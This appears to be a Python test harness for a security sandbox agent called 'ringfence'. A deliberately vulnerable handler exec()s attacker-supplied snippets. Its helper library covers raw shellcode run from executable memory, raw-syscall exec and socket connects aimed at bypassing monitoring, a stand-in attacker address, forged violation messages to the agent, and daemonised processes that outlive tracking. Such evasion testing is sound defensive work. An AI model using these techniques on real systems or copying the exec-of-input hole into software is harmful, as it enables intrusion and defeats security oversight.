"""A function with the worst of flaws: it runs what the event says. Stands for an eval'd template, a pickle, a dependency.

An attack is one or more snippets of pure Python. A snippet sets `won` where it got what it wanted, and may set `said`
(any JSON) for honest programs, whose answers are compared. What reaches a host of the attacker is counted there: `mark`
is the text that a snippet sends.
"""

import ctypes
import os
import socket
import struct
import subprocess
import sys
import threading
import time

EVIL = "198.51.100.66"
SHELL = ["/bin/sh", "-c", "echo pwned"]

libc = ctypes.CDLL(None, use_errno=True)

# A static program for x86_64, 158 bytes: write(1, "pwned", 5); exit(0).
_CODE = bytes.fromhex("b801000000bf01000000488d3510000000ba050000000f0531ffb83c0000000f05") + b"pwned"
STATIC = (
    b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(_CODE), 120 + len(_CODE), 4096) + _CODE
)
# The same, but it stays: pause(2) in a loop instead of exit(2).
STATIC_STAYS = STATIC.replace(bytes.fromhex("31ffb83c0000000f05"), bytes.fromhex("b8220000000f05ebf7"))


def native():
    """A function that makes system calls with an instruction of its own: number, then up to six arguments.

    One page of code, as libffi maps for callbacks, so that nobody takes it for more.
    """
    import mmap
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3"))
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    function = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7)(address)
    def call(number, *arguments):
        numbers = [ctypes.addressof(a) if isinstance(a, ctypes.Array) else a for a in arguments]
        return function(number, *numbers, *[0] * (6 - len(numbers)))
    call.area = area
    return call


def native_exec(command):
    """Starts a command in a fork, by native code; the read end of its output."""
    call = native()
    path = ctypes.create_string_buffer(command[0].encode())
    argv = (ctypes.c_char_p * (len(command) + 1))(*[part.encode() for part in command], None)
    environment = (ctypes.c_char_p * 1)(None)
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.dup2(writer, 1)
        call(59, path, argv, environment)
        os._exit(1)
    os.close(writer)
    return reader


def until(true, seconds=10):
    """Tries until it is true, for so long; a busy machine may need most of that."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if true():
            return True
        time.sleep(0.01)
    return False


def native_socket(address, kind=1):
    """A socket that native code has connected, or nothing."""
    call = native()
    number = call(41, 2, kind, 0)
    host, port = address
    to = ctypes.create_string_buffer(struct.pack("!2sH4s8x", struct.pack("=H", 2), port, socket.inet_aton(host)), 16)
    return (call, number) if call(42, number, to, 16) == 0 else (call, -1)


def write(path, content, mode=0o755):
    with open(path, "wb") as file:
        file.write(content)
    os.chmod(path, mode)
    return path


def output(command, **settings):
    """What a command printed; nothing where it could not be started."""
    try:
        return subprocess.run(command, capture_output=True, timeout=5, **settings).stdout
    except (OSError, subprocess.SubprocessError):
        return b""


def spawned(start):
    """Bytes that a child wrote to its standard output; `start` starts it with that output and returns its id."""
    reader, writer = os.pipe()
    os.set_inheritable(writer, True)
    child = start(writer)
    os.close(writer)
    with open(reader, "rb") as pipe:
        found = pipe.read()
    os.waitpid(child, 0)
    return found


def forked(work):
    """Runs `work` in a fork; what it returned (bytes), or nothing where it failed."""
    def start(writer):
        child = os.fork()
        if child == 0:
            try:
                os.write(writer, work() or b"")
            finally:
                os._exit(0)
        return child
    return spawned(start)


def agent():
    """The agent's process id, found as anybody can: by the name that proc(5) shows."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as file:
                if file.read().strip() in ("ringfence", "ringfence-agent"):
                    return int(pid)
        except OSError:
            pass
    return 0


def report_socket():
    """The agent's report socket, as the environment names it."""
    return b"\0" + os.environ.get("RINGFENCE_REPORT", "none").encode()


def notice(kind, request):
    """A notice to the agent as the library would send it."""
    return message(kind, {15: request.encode()})


def message(kind, fields):
    """A message to the agent, by the numbers of its fields (extension/records/src/wire.rs, message.rs)."""
    fields = {1: os.getpid(), **fields}
    values = {tag: value.to_bytes(4, "little") if isinstance(value, int) else value for tag, value in fields.items()}
    return b"RF\x01" + bytes([kind]) + b"".join(struct.pack("<BH", tag, len(value)) + value for tag, value in values.items())


def tell(kind, fields):
    """Sends a message to the agent; a plane may refuse it."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        try:
            sender.sendto(message(kind, fields), report_socket())
        except OSError:
            pass


def deed(mark, rule, outcome=2, plane=2, **more):
    """The fields of a violation: an exec of a file with the name of the case."""
    named = {"action": 4, "pid": 1, "lost": 17}
    fields = {4: b"\1", 5: bytes([outcome]), 6: bytes([rule]), 7: bytes([plane]), 8: f"/forged/{mark}".encode()}
    return {**fields, **{named[name]: value for name, value in more.items()}}


def mapped(name):
    """(start, end, permissions, path) of each mapping whose path contains `name`."""
    found = []
    with open("/proc/self/maps") as maps:
        for line in maps:
            parts = line.split(None, 5)
            if name in (parts[5].strip() if len(parts) > 5 else ""):
                start, end = (int(part, 16) for part in parts[0].split("-"))
                found.append((start, end, parts[1], parts[5].strip(), int(parts[2], 16)))
    return found


def outlive(name):
    """A survivor: says that it is there, and writes when the next event is at work."""
    write(f"/tmp/{name}-waits", b"1")
    until(lambda: os.path.exists(f"/tmp/{name}-next"), 30)
    write(f"/tmp/{name}", b"1")
    os._exit(0)


def is_there(name):
    """Waits until a survivor is there, which is when its event may end."""
    return until(lambda: os.path.exists(f"/tmp/{name}-waits"), 30)


def outlived(name):
    """Whether it still is at the next event. Without its file it hardly is: that is worth a second."""
    patience = 20 if os.path.exists(f"/tmp/{name}-waits") else 1
    write(f"/tmp/{name}-next", b"1")
    return until(lambda: os.path.exists(f"/tmp/{name}"), patience)


def helper(name, is_daemon):
    """A process that init starts: at SIGUSR1 it starts another one, which writes to /tmp later."""
    import signal

    reader, writer = os.pipe()
    child = os.fork()
    if child:
        os.close(writer)
        number = int(os.read(reader, 20))
        os.close(reader)
        if is_daemon:
            os.waitpid(child, 0)
        return number
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR1])
    if is_daemon and os.fork():
        os._exit(0)
    if is_daemon:
        os.setsid()
    os.write(writer, str(os.getpid()).encode())
    os.closerange(0, 900)
    signal.sigwait([signal.SIGUSR1])
    if os.fork() == 0:
        outlive(name)
    signal.pause()
    os._exit(0)


app_helper = helper("survived-4", is_daemon=False)
app_daemon = helper("survived-5", is_daemon=True)
TOOLS = dict(globals())


def handler(event, context):
    names = {**TOOLS, "context": context, "mark": event["name"], "won": False, "said": None}
    error = None
    try:
        exec(compile(event["code"], event["name"], "exec"), names)
    except BaseException as raised:  # a snippet may raise anything
        error = repr(raised)
    return {"won": bool(names["won"]), "said": names["said"], "error": error}
